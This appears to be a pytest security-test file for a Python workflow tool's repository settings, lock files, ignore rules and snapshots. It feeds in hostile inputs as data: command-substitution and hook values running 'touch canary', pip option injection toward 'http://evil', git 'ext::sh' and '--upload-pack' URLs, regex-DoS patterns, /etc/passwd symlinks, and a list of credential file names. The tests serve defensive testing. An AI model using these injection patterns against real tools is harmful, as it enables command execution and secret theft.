"""Settings, environment locks, ignore files and secrets: what a repository says is not done."""

# ruff: noqa: E501 -- a row a line

from __future__ import annotations

import os
import tomllib
from collections.abc import Callable
from pathlib import Path

import pytest
from commands import python
from forge import with_fields
from sites import CANARY, Site, dangerous

from mfv.capture.ignore import IgnoreRules
from mfv.capture.snapshot import take
from mfv.checkout.lock import wanted
from mfv.manifest.records import Environment, Package, Source
from mfv.repo.lock import pylock, requirements

USAGE = 2

CONFIGS = {
    "pager": b'pager = "touch canary"',
    "editor": b'editor = "touch canary"',
    "alias": b'[alias]\nlog = "!touch canary"',
    "hooks": b'[hooks]\npost-clone = "touch canary"',
    "include": b'include = "/etc/passwd"',
    "command-in-a-value": b'durability = "$(touch canary)"',
    "newline-in-a-value": b'durability = "full\\npager = x"',
    "section-in-a-value": b'keep.where = "x\\n[core]\\npager = \'x\'"',
    "type-number": b"durability = 7",
    "type-list": b'process = ["fork", "spawn"]',
    "type-table": b'[compression]\nx = 1',
    "type-list-in-a-table": b"code = [1, 2]",
    "size-negative": b"code.max_file_size = -1",
    "size-float": b"code.max_file_size = 1e400",
    "size-long": b'code.max_file_size = "' + b"9" * 100_000 + b' B"',
    "size-unit": b'code.max_file_size = "5 XiB"',
    "keep-negative": b"keep.last = -5",
    "keep-huge": b"keep.last = " + b"9" * 5000,
    "keep-bool": b"keep.last = true",
    "keep-where-code": b"keep.where = '__import__(\"os\").system(\"touch canary\")'",
    "keep-where-slow": b"keep.where = \"note ~ '(a+)+$'\"",
    "keep-where-deep": b'keep.where = "' + b"(" * 1000 + b'"',
    "trash-nan": b"trash = nan",
    "trash-long": b'trash = "' + b"9" * 400 + b'd"',
    "deep-array": b"x = " + b"[" * 100_000,
    "deep-array-of-lines": b"x = " + b"[\n" * 20_000,
    "deep-table": b"x = " + b"{a=" * 50_000,
    "deep-key": b"a" + b".a" * 50_000 + b" = 1",
    "10-MB": b"# x\n" * 2_500_000,
    "one-line-of-250-kB": b"x = '" + b"y" * 250_000 + b"'",
    "many-keys": b"".join(b"k%d = 1\n" % place for place in range(10_000)),
    "no-utf8": b'durability = "\xff\xfe"',
    "nul": b"durability = \x00",
    "bom": b"\xef\xbb\xbfdurability = 1",
    "escapes": b'"\\u001b[31m" = 1',
    "binary": bytes(range(256)) * 10,
    "key-twice": b'durability = "full"\ndurability = "fast"',
    "dates": b"durability = 9999-99-99",
}  # fmt: skip


@pytest.mark.parametrize("text", CONFIGS.values(), ids=CONFIGS)
def test_a_setting_of_a_repository_runs_nothing_and_is_named_where_it_is_wrong(
    site: Site, text: bytes
) -> None:
    site.forge().run()
    (site.project / ".mfv" / "config.toml").write_bytes(text)
    done = site.visit([["log"], ["show"], ["gc", "--dry-run"], ["fsck"]], PAGER="cat")
    statuses = {one.status for one in done.values()}
    assert done["gc --dry-run"].status == USAGE, done
    assert statuses <= {0, USAGE}
    assert (
        "config.toml" in done["gc --dry-run"].err
        or "query" in done["gc --dry-run"].err
        or done["gc --dry-run"].err
    )
    assert len(done["gc --dry-run"].err) < 300_000
    assert list(site.root.rglob(CANARY)) == []


def test_a_setting_of_a_project_runs_nothing_either(site: Site) -> None:
    site.forge().run()
    for name in ("pyproject.toml", "mfv.toml", ".mfvrc", "sitecustomize.py"):
        (site.project / name).write_text("import os; os.system('touch canary')\n")
    site.visit([["log"], ["show"]])
    assert list(site.root.rglob(CANARY)) == []


# What was installed, as installers read it.

NAMES = {
    "newline": "numpy\n--index-url=http://evil",
    "option": "--index-url=http://evil",
    "option-short": "-ihttp://evil",
    "file": "-r/etc/passwd",
    "editable": "-e /tmp/evil",
    "marker": "numpy; python_version<'4'",
    "direct": "numpy @ http://evil/x.whl",
    "path": "../../evil",
    "extras": "numpy[evil]",
    "comment": "numpy # x",
    "continuation": "numpy \\",
    "carriage": "numpy\r--pre",
    "separator": "numpy\u2028--pre",
    "space": "numpy --pre",
    "capital": "NumPy",
    "unicode": "n\u00fampy",
    "environment-variable": "${EVIL}",
    "quote": 'numpy"\n[evil]\nx = "',
    "empty": "",
    "long": "n" * 100_000 + "!",
}
VERSIONS = {
    "newline": "1.0\n--pre",
    "option": "1.0 --index-url http://evil",
    "wildcard": "1.*",
    "range": "1.0,>0",
    "hash": "1.0 --hash=sha256:x",
    "url": "1.0 @ http://evil",
    "quote": '1.0"\n[evil]',
    "variable": "${EVIL}",
    "long": "1." * 50_000,
    "empty": "",
}
SOURCES = {
    "scheme-ext": Source("numpy", "archive", url="ext::sh -c touch% canary"),
    "scheme-git-ext": Source("numpy", "vcs", url="git+ext::sh", vcs="git", commit="0" * 40),
    "scheme-none": Source("numpy", "archive", url="evil"),
    "scheme-http": Source("numpy", "archive", url="http://evil/x.whl"),
    "space": Source("numpy", "archive", url="https://evil/x.whl --pre"),
    "newline": Source("numpy", "archive", url="https://evil/x\n--pre"),
    "commit-option": Source("numpy", "vcs", url="https://evil/x", vcs="git", commit="--upload-pack=evil"),
    "commit-newline": Source("numpy", "vcs", url="https://evil/x", vcs="git", commit="a\n--pre"),
    "vcs-unknown": Source("numpy", "vcs", url="https://evil/x", vcs="sh", commit="0" * 40),
    "subdirectory-up": Source("numpy", "vcs", url="https://evil/x", vcs="git", commit="0" * 40, subdirectory="../.."),
    "subdirectory-fragment": Source("numpy", "vcs", url="https://evil/x", vcs="git", commit="0" * 40, subdirectory="a&egg=b"),
    "folder": Source("numpy", "directory", url="file:///tmp/evil", editable=True),
    "folder-of-a-host": Source("numpy", "directory", url="file://evil/share", editable=True),
    "hash-newline": Source("numpy", "archive", url="https://evil/x.whl", hashes=("sha256=a\n--pre",)),
    "wheel-up": Source("numpy", wheel="../../evil.whl", content=bytes(32)),
    "wheel-quote": Source("numpy", wheel='x"]\nevil = ["', content=bytes(32)),
}  # fmt: skip


def with_package(
    name: str = "numpy", version: str = "2.0.0", source: Source | None = None
) -> Callable[[Environment], Environment]:
    import msgspec

    sources = () if source is None else (msgspec.structs.replace(source, name=name),)
    return with_fields(packages=(Package(name, version),), sources=sources)


PACKAGES = {
    **{f"name-{key}": with_package(name=name) for key, name in NAMES.items()},
    **{f"version-{key}": with_package(version=version) for key, version in VERSIONS.items()},
    **{f"source-{key}": with_package(source=source) for key, source in SOURCES.items()},
}


@pytest.mark.parametrize("change", PACKAGES.values(), ids=PACKAGES)
def test_a_package_is_one_line_of_a_lock_or_none(
    site: Site, change: Callable[[Environment], Environment]
) -> None:
    from making import environment

    machine = change(environment())
    lines = [line for line in requirements(machine).splitlines() if not line.startswith("#")]
    assert len(lines) <= 1
    for line in lines:
        assert line.split(" ")[0].split("==")[0] in ("numpy", "-e")
        assert (
            ("--" not in line and "evil" not in line)
            or " @ " in line
            or line.startswith("-e file:///")
        )
        assert dangerous(line) == set()
    lock = tomllib.loads(pylock(machine))
    assert set(lock) <= {
        "lock-version",
        "environments",
        "requires-python",
        "created-by",
        "packages",
        "tool",
    }
    asked = wanted(machine).requirements
    assert all(
        line.startswith(("numpy==", "numpy @ https://", "numpy @ git+https://")) for line in asked
    )
    assert all(not line.startswith("-") for line in asked)
    site.forge().run(machine=change)
    site.visit([["env"], ["env", "--format", "pylock"], ["clone", "@", "../out/it"]])


# Ignore files and what is captured.

IGNORED = {
    "stars": "*a" * 60 + "b",
    "double-stars": "**/" * 60 + "b",
    "brackets": "[a-z]" * 5000,
    "bracket-unclosed": "[" * 10_000,
    "class-unknown": "[[:evil:]]",
    "range-backwards": "[z-a]",
    "negations": "!" * 10_000,
    "backslashes": "\\" * 10_001,
    "many-rules": "\n".join(f"rule{place}" for place in range(20_000)),
    "10-MB": "x" * 10_000_000,
    "nul": "a\0b",
    "binary": "".join(map(chr, range(256))),
    "everything": "*",
    "root": "/",
    "up": "../*",
}


@pytest.mark.parametrize("text", IGNORED.values(), ids=IGNORED)
def test_an_ignore_file_is_read_in_time(tmp_path: Path, text: str) -> None:
    (tmp_path / ".mfvignore").write_text(text, encoding="latin-1")
    rules = IgnoreRules(os.fsencode(tmp_path), b".mfvignore")
    rules.enter(b"")
    for path in (b"a" * 250, b"/".join([b"a"] * 120), b"x.py"):
        rules.ignores(path)


SECRET_FILES = [
    ".env", ".env.local", "prod.env", "key.pem", "id_rsa", "id_ed25519", ".ssh/config", ".aws/credentials",
    ".netrc", ".pypirc", ".npmrc", "credentials.json", "secrets.yaml", ".git/config", "service_account.json",
    "client_secret_1.json", "store.jks", "a.p12", ".docker/config.json", ".kube/config", ".huggingface/token",
    "KEY.PEM", "sub/.ENV", ".git-credentials", ".vault-token", ".htpasswd", ".pgpass", "application_default_credentials.json",
]  # fmt: skip


@pytest.mark.parametrize("name", SECRET_FILES)
def test_a_file_of_secrets_is_in_no_snapshot(tmp_path: Path, name: str) -> None:
    script = tmp_path / "flow.py"
    script.write_text("print()\n")
    secret = tmp_path / name
    secret.parent.mkdir(parents=True, exist_ok=True)
    secret.write_text("token = hunter2\n")
    assert [file.path for file in take(script).files] == ["flow.py"]


def entry_fifo(place: Path) -> None:
    os.mkfifo(place / "fifo.py")


def entry_loop(place: Path) -> None:
    (place / "loop").symlink_to(".")
    (place / "one").symlink_to("two")
    (place / "two").symlink_to("one")


def entry_outside(place: Path) -> None:
    (place / "etc").symlink_to("/etc")
    (place / "passwd.py").symlink_to("/etc/passwd")
    (place / "up").symlink_to("..")


def entry_deep(place: Path) -> None:
    here = os.getcwd()
    os.chdir(place)
    for _ in range(900):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(here)


def entry_names(place: Path) -> None:
    for name in (b"a\nb.py", b"\xff\xfe.py", b"\x1b[31m.py", b"-rf", b"n" * 255):
        Path(os.fsdecode(os.fsencode(place) + b"/" + name)).write_text("x")


def entry_large(place: Path) -> None:
    (place / "large.py").write_bytes(b"")
    os.truncate(place / "large.py", 1 << 40)


def entry_unreadable(place: Path) -> None:
    (place / "mine.py").write_text("x")
    (place / "mine.py").chmod(0)


ENTRIES = [
    entry_fifo,
    entry_loop,
    entry_outside,
    entry_deep,
    entry_names,
    entry_large,
    entry_unreadable,
]


@pytest.mark.parametrize("make", ENTRIES, ids=lambda make: make.__name__.removeprefix("entry_"))
def test_what_lies_beside_a_flow_makes_no_snapshot_wait_or_lead_out(
    tmp_path: Path, make: Callable[[Path], None]
) -> None:
    place = tmp_path / "project"
    place.mkdir()
    (place / "flow.py").write_text("print()\n")
    make(place)
    snapshot = take(place / "flow.py")
    for file in snapshot.files:
        assert "/etc/" not in file.path and not file.path.startswith(("etc/", "loop/", "up/"))
    assert any(file.path == "flow.py" for file in snapshot.files)


SECRETIVE = """
import os
from mfv import FlowSpec, Parameter, step

class SecretFlow(FlowSpec):
    api_key = Parameter("api_key")
    db_password = Parameter("db_password", default="hunter2-default")
    hf_token = Parameter("hf-token", default="hunter2-token")

    @step
    def start(self):
        self.length = len(self.api_key) + len(self.db_password)
        self.next(self.end)

    @step
    def end(self):
        pass

if __name__ == "__main__":
    SecretFlow()
"""


def test_secrets_of_a_run_are_nowhere_in_its_repository(site: Site) -> None:
    (site.project / "flow.py").write_text(SECRETIVE)
    environment = {
        "AWS_SECRET_ACCESS_KEY": "hunter2-aws",
        "MY_TOKEN": "hunter2-env",
        "DATABASE_URL": "postgres://u:hunter2@h/d",
    }
    done = python(site.project, "flow.py", "run", "--api_key", "hunter2-typed", env=environment)
    assert done.status == 0, done
    told = site.visit(
        [
            ["log", "--json"],
            ["show", "--json"],
            ["show", "--info"],
            ["env", "--format", "json"],
            ["clone", "@", "../out/it"],
        ]
    )
    text = "".join(one.out + one.err for one in told.values())
    papers = "".join(
        path.read_text() for path in (site.out / "it" / ".mfv-clone").rglob("*") if path.is_file()
    )
    stored = b"".join(
        path.read_bytes() for path in (site.project / ".mfv").rglob("*") if path.is_file()
    )
    for secret in ("hunter2-typed", "hunter2-aws", "hunter2-env", "hunter2@h"):
        assert secret not in text + papers
        assert secret.encode() not in stored
